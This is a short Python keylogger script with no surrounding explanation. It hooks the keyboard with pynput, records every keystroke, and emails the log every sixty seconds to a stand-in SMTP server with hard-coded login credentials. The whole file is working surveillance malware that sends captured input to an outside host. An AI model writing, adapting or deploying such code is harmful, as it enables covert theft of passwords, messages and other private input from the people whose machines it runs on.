import threading, smtplib
from pynput.keyboard import Key, Listener
class Logger:
    def __init__(self):
        self.log = ""
    def press(self, key):
        self.log += str(key)
    def report(self):
        server = smtplib.SMTP("smtp.collector.invalid", 587)
        server.starttls()
        server.login("a@collector.invalid", "password1")
        server.sendmail("a@collector.invalid", "a@collector.invalid", self.log)
        threading.Timer(60, self.report).start()
    def start(self):
        with Listener(on_press=self.press) as l:
            self.report()
            l.join()
Logger().start()
